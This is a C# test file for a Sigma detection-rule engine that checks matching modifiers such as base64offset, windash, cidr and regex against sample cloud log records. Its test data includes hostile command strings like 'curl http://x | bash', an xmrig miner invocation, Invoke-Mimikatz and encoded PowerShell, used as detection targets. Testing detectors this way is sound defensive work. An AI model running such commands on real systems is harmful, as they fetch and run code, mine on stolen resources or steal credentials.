using System.Text;
using Shodo.Sigma;
using Shodo.Sigma.Detection;
using Shodo.Sigma.Values;
using static Shodo.Tests.Sigma.SigmaTestRules;

namespace Shodo.Tests.Sigma;

public class ModifierTests
{
    private static bool Field(string keyAndValue, string recordJson) =>
        Matches($"sel:\n    {keyAndValue}\ncondition: sel", recordJson);

    private static string Ua(string value) => $$"""{"userAgent": "{{value}}"}""";

    [Fact]
    public void Contains_startswith_endswith()
    {
        Assert.True(Field("userAgent|contains: Boto3", Ua("aws-cli boto3/1.2")));
        Assert.False(Field("userAgent|contains: Boto3", Ua("aws-cli")));
        Assert.True(Field("userAgent|startswith: aws-cli/", Ua("AWS-CLI/2.15")));
        Assert.False(Field("userAgent|startswith: aws-cli/", Ua("x aws-cli/2.15")));
        Assert.True(Field("userAgent|endswith: kali", Ua("python root@Kali")));
        Assert.False(Field("userAgent|endswith: kali", Ua("kali linux")));
    }

    [Fact]
    public void Contains_keeps_inner_wildcards()
    {
        Assert.True(Field("userAgent|contains: 'aws*linux'", Ua("x aws-cli Linux/6 y")));
        Assert.False(Field("userAgent|contains: 'aws*linux'", Ua("linux aws")));
    }

    [Fact]
    public void Values_are_or_unless_all()
    {
        Assert.True(Field("userAgent|contains: [curl, wget]", Ua("wget/1.2")));
        Assert.False(Field("userAgent|contains|all: [curl, wget]", Ua("wget/1.2")));
        Assert.True(Field("userAgent|contains|all: [curl, wget]", Ua("curl then wget")));
    }

    [Fact]
    public void Re_searches_case_sensitively_with_i_m_s_flags()
    {
        Assert.True(Field("userAgent|re: 'aws-cli/2\\.\\d+'", Ua("x aws-cli/2.15 y")));
        Assert.False(Field("userAgent|re: 'AWS-CLI'", Ua("aws-cli/2.15")));
        Assert.True(Field("userAgent|re|i: 'AWS-CLI'", Ua("aws-cli/2.15")));
        Assert.False(Field("userAgent|re: '^b$'", Ua("a\\nb")));
        Assert.True(Field("userAgent|re|m: '^b$'", Ua("a\\nb")));
        Assert.False(Field("userAgent|re: 'a.b'", Ua("a\\nb")));
        Assert.True(Field("userAgent|re|s: 'a.b'", Ua("a\\nb")));
        // The regex is taken as written: '*' is a quantifier, not a Sigma wildcard.
        Assert.True(Field("userAgent|re: 'ab*c'", Ua("ac")));
    }

    [Fact]
    public void Re_flags_need_re_and_invalid_patterns_are_reported()
    {
        var flag = Assert.Throws<SigmaRuleException>(() => Rule("sel:\n    a|i: x\ncondition: sel"));
        Assert.Contains("must follow 're'", flag.Message);
        var bad = Assert.Throws<SigmaRuleException>(() => Rule("sel:\n    a|re: '(unclosed'\ncondition: sel"));
        Assert.Contains("invalid regular expression", bad.Message);
        Assert.Equal(8, bad.Problems.Single().Line);
    }

    [Fact]
    public void Cidr_matches_ipv4_and_ipv6_networks()
    {
        Assert.True(Field("sourceIPAddress|cidr: 203.0.113.0/24", """{"sourceIPAddress":"203.0.113.24"}"""));
        Assert.False(Field("sourceIPAddress|cidr: 203.0.113.0/24", """{"sourceIPAddress":"203.0.114.24"}"""));
        Assert.True(Field("sourceIPAddress|cidr: [10.0.0.0/8, '2001:db8::/32']", """{"sourceIPAddress":"2001:db8:1::5"}"""));
        Assert.False(Field("sourceIPAddress|cidr: '2001:db8::/32'", """{"sourceIPAddress":"2001:db9::5"}"""));
        Assert.False(Field("sourceIPAddress|cidr: 10.0.0.0/8", """{"sourceIPAddress":"ec2.amazonaws.com"}"""));
        Assert.True(Field("sourceIPAddress|cidr: 10.1.2.3/8", """{"sourceIPAddress":"10.200.0.1"}"""));
        Assert.Throws<SigmaRuleException>(() => Rule("sel:\n    a|cidr: 10.0.0.0/40\ncondition: sel"));
        Assert.Throws<SigmaRuleException>(() => Rule("sel:\n    a|cidr: not-a-network\ncondition: sel"));
    }

    [Fact]
    public void Exists_tests_presence_of_a_non_null_value()
    {
        Assert.True(Field("errorCode|exists: true", """{"errorCode":"AccessDenied"}"""));
        Assert.False(Field("errorCode|exists: true", """{"errorCode":null}"""));
        Assert.False(Field("errorCode|exists: true", """{"a":1}"""));
        Assert.True(Field("errorCode|exists: false", """{"a":1}"""));
        Assert.False(Field("errorCode|exists: false", """{"errorCode":""}"""));
        Assert.Throws<SigmaRuleException>(() => Rule("sel:\n    a|exists: maybe\ncondition: sel"));
    }

    [Fact]
    public void Fieldref_compares_with_another_field()
    {
        const string self = """{"requestParameters":{"userName":"Alice"},"userIdentity":{"userName":"alice"}}""";
        const string other = """{"requestParameters":{"userName":"backdoor"},"userIdentity":{"userName":"alice"}}""";
        Assert.True(Field("requestParameters.userName|fieldref: userIdentity.userName", self));
        Assert.False(Field("requestParameters.userName|fieldref: userIdentity.userName", other));
        Assert.False(Field("requestParameters.userName|fieldref: userIdentity.missing", self));
        Assert.True(Field("policy|fieldref|contains: recipientAccountId", """{"policy":"arn:aws:iam::1234:root","recipientAccountId":"1234"}"""));
        Assert.True(Field("arn|fieldref|endswith: name", """{"arn":"arn:aws:iam::1:user/bob","name":"bob"}"""));
        Assert.True(Field("arn|fieldref|startswith: prefix", """{"arn":"arn:aws:iam::1:user/bob","prefix":"arn:aws"}"""));
        Assert.False(Field("a|fieldref|cased: b", """{"a":"X","b":"x"}"""));
    }

    [Fact]
    public void Base64_matches_the_encoded_value()
    {
        var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes("curl http://x | bash"));
        Assert.True(Field("userData|base64: 'curl http://x | bash'", $$"""{"userData":"{{encoded}}"}"""));
        Assert.False(Field("userData|base64: 'curl'", $$"""{"userData":"{{encoded}}"}"""));
        Assert.Throws<SigmaRuleException>(() => Rule("sel:\n    a|base64: 'x*'\ncondition: sel"));
    }

    [Theory]
    [InlineData("")]
    [InlineData("a")]
    [InlineData("ab")]
    [InlineData("#!/bin/bash\n")]
    public void Base64offset_contains_finds_the_value_at_any_offset(string prefix)
    {
        var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes(prefix + "xmrig --donate-level 0" + " tail"));
        Assert.True(Field("userData|base64offset|contains: 'xmrig --donate'", $$"""{"userData":"{{encoded}}"}"""));
        var other = Convert.ToBase64String(Encoding.UTF8.GetBytes(prefix + "nginx --start tail"));
        Assert.False(Field("userData|base64offset|contains: 'xmrig --donate'", $$"""{"userData":"{{other}}"}"""));
    }

    [Fact]
    public void Base64offset_gives_the_three_known_forms()
    {
        var rule = Rule("sel:\n    a|base64offset: /bin/sh\ncondition: sel");
        var item = Assert.IsType<FieldDetection>(rule.Detection.Searches["sel"]);
        var expansion = Assert.IsType<SigmaExpansion>(Assert.Single(item.Values));
        // The forms pySigma and the Sigma specification list for "/bin/sh".
        Assert.Equal(["L2Jpbi9za", "9iaW4vc2", "vYmluL3No"], expansion.Alternatives.Cast<SigmaString>().Select(s => s.Literal));
    }

    [Fact]
    public void Windash_accepts_every_dash_and_slash_form()
    {
        foreach (var form in new[] { "-", "/", "\u2013", "\u2014", "\u2015" })
            Assert.True(Field("commandLine|windash|contains: ' -enc '", $$"""{"commandLine":"powershell {{form}}enc ZQ=="}"""));
        Assert.False(Field("commandLine|windash|contains: ' -enc '", """{"commandLine":"powershell +enc ZQ=="}"""));
        // A dash inside a word is not a switch and is not varied.
        Assert.False(Field("commandLine|windash: 'a-b'", """{"commandLine":"a/b"}"""));
    }

    [Fact]
    public void Cased_makes_the_comparison_case_sensitive()
    {
        Assert.True(Field("eventName|cased: CreateUser", """{"eventName":"CreateUser"}"""));
        Assert.False(Field("eventName|cased: CreateUser", """{"eventName":"createuser"}"""));
        Assert.False(Field("eventName|contains|cased: User", """{"eventName":"createuser"}"""));
    }

    [Fact]
    public void Numeric_comparisons()
    {
        const string record = """{"requestParameters":{"durationSeconds":129600, "count":"2"}}""";
        Assert.True(Field("requestParameters.durationSeconds|gt: 43200", record));
        Assert.False(Field("requestParameters.durationSeconds|lt: 43200", record));
        Assert.True(Field("requestParameters.durationSeconds|gte: 129600", record));
        Assert.False(Field("requestParameters.durationSeconds|gt: 129600", record));
        Assert.True(Field("requestParameters.durationSeconds|lte: 129600", record));
        Assert.True(Field("requestParameters.count|lt: 2.5", record));
        Assert.False(Field("requestParameters.missing|lt: 10", record));
        Assert.Throws<SigmaRuleException>(() => Rule("sel:\n    a|gt: ten\ncondition: sel"));
    }

    [Fact]
    public void Expand_fills_placeholders_from_the_configuration()
    {
        var options = new SigmaLoadOptions
        {
            Placeholders = new Dictionary<string, IReadOnlyList<string>> { ["admins"] = ["ops-sato", "ci-*"] },
        };
        var rule = Rule("sel:\n    userIdentity.userName|expand: '%admins%'\ncondition: sel", options);
        Assert.True(rule.Matches(Record("""{"userIdentity":{"userName":"ops-sato"}}""")));
        Assert.True(rule.Matches(Record("""{"userIdentity":{"userName":"ci-deploy"}}""")));
        Assert.False(rule.Matches(Record("""{"userIdentity":{"userName":"dev-tanaka"}}""")));

        var missing = Assert.Throws<SigmaRuleException>(() => Rule("sel:\n    u|expand: '%nobody%'\ncondition: sel"));
        Assert.Contains("%nobody%", missing.Message);
    }

    [Fact]
    public void Unknown_modifiers_and_modifiers_on_the_wrong_type_name_the_line()
    {
        var unknown = Assert.Throws<SigmaRuleException>(() => Rule("sel:\n    eventName: x\n    a|sparkle: y\ncondition: sel"));
        Assert.Equal("test.yml", unknown.Problems.Single().Path);
        Assert.Equal(9, unknown.Problems.Single().Line);
        Assert.Contains("unknown modifier 'sparkle'", unknown.Message);
        var wrongType = Assert.Throws<SigmaRuleException>(() => Rule("sel:\n    a|contains: null\ncondition: sel"));
        Assert.Contains("'contains' cannot be applied to null", wrongType.Message);
    }
}

public class EncodingAndConfigurationTests
{
    private static bool Field(string keyAndValue, string recordJson) =>
        SigmaTestRules.Matches($"sel:\n    {keyAndValue}\ncondition: sel", recordJson);

    [Theory]
    [InlineData("utf16le", "Unicode")]
    [InlineData("wide", "Unicode")]
    [InlineData("utf16be", "BigEndianUnicode")]
    public void Utf16_modifiers_encode_before_base64(string modifier, string encodingName)
    {
        var encoding = encodingName == "Unicode" ? System.Text.Encoding.Unicode : System.Text.Encoding.BigEndianUnicode;
        var encoded = Convert.ToBase64String(encoding.GetBytes("ping -n 1"));
        Assert.True(Field($"a|{modifier}|base64: 'ping -n 1'", $$"""{"a":"{{encoded}}"}"""));
        var utf8 = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes("ping -n 1"));
        Assert.False(Field($"a|{modifier}|base64: 'ping -n 1'", $$"""{"a":"{{utf8}}"}"""));
    }

    [Fact]
    public void Utf16_with_bom_and_base64offset()
    {
        var encoded = Convert.ToBase64String([0xFF, 0xFE, .. System.Text.Encoding.Unicode.GetBytes("cmd")]);
        Assert.True(Field("a|utf16|base64: cmd", $$"""{"a":"{{encoded}}"}"""));
        var inner = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("xx Invoke-Mimikatz yy"));
        Assert.True(Field("a|wide|base64offset|contains: Invoke-Mimikatz", $$"""{"a":"{{inner}}"}"""));
    }

    [Fact]
    public void Utf16_without_base64_is_a_load_problem()
    {
        var error = Assert.Throws<Shodo.Sigma.SigmaRuleException>(() => SigmaTestRules.Rule("sel:\n    a|wide: cmd\ncondition: sel"));
        Assert.Contains("followed by base64", error.Message);
    }

    [Fact]
    public void Placeholders_come_from_the_sigma_section_of_the_configuration()
    {
        var config = Shodo.Configuration.ShodoConfiguration.Parse("shodo.yaml",
            "sigma:\n  placeholders:\n    admins: [ops-sato, ci-deploy]\n    office: 203.0.113.0/24\n");
        var placeholders = Shodo.Sigma.SigmaConfiguration.Placeholders(config);
        Assert.Equal(["ops-sato", "ci-deploy"], placeholders["admins"]);
        Assert.Equal(["203.0.113.0/24"], placeholders["office"]);
        Assert.Empty(Shodo.Sigma.SigmaConfiguration.Placeholders(Shodo.Configuration.ShodoConfiguration.Empty));

        var bad = Shodo.Configuration.ShodoConfiguration.Parse("shodo.yaml", "sigma:\n  placeholders:\n    admins:\n      x: y\n");
        var error = Assert.Throws<Shodo.Diagnostics.ShodoException>(() => Shodo.Sigma.SigmaConfiguration.Placeholders(bad));
        Assert.Contains("shodo.yaml:4", error.Message);
    }
}

public class ValueEqualityTests
{
    [Fact]
    public void Values_compare_by_meaning_whether_or_not_they_have_been_used()
    {
        var used = Shodo.Sigma.Values.SigmaString.Parse("Create*");
        Assert.True(used.IsMatch("CreateUser"));
        Assert.Equal(Shodo.Sigma.Values.SigmaString.Parse("Create*"), used);
        Assert.NotEqual(Shodo.Sigma.Values.SigmaString.Parse("Create*").AsCased(), used);
        Assert.Equal(new Shodo.Sigma.Values.SigmaRegex("a+", ignoreCase: true), new Shodo.Sigma.Values.SigmaRegex("a+", ignoreCase: true));
        var a = SigmaTestRules.Rule("sel:\n    c|windash: ' -x'\ncondition: sel");
        var b = SigmaTestRules.Rule("sel:\n    c|windash: ' -x'\ncondition: sel");
        Assert.Equal(((Shodo.Sigma.Detection.FieldDetection)a.Detection.Searches["sel"]).Values,
                     ((Shodo.Sigma.Detection.FieldDetection)b.Detection.Searches["sel"]).Values);
    }
}
